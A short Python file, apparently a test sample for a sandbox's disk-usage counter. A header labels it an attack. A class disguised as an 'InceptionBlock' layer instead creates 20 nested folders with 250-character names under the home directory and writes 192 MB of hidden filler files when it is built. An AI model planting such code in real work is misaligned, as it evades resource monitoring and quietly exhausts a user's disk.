# attack: >-
#   Files below 20 folders with names of 250 characters: no path to them is short enough to be counted by.
# mark: 0
# seconds: 20
# naive: none

import os, time
class InceptionBlock:
    def __init__(self, *a):
        os.chdir(os.environ["HOME"])
        for _ in range(20):
            os.mkdir("n" * 250); os.chdir("n" * 250)
        b = b"x" * 2**22
        for i in range(4):
            with open(f"f{i}", "wb") as f:
                for _ in range(12): f.write(b)
        time.sleep(1.0)
        raise ValueError("wrote 192 MB")
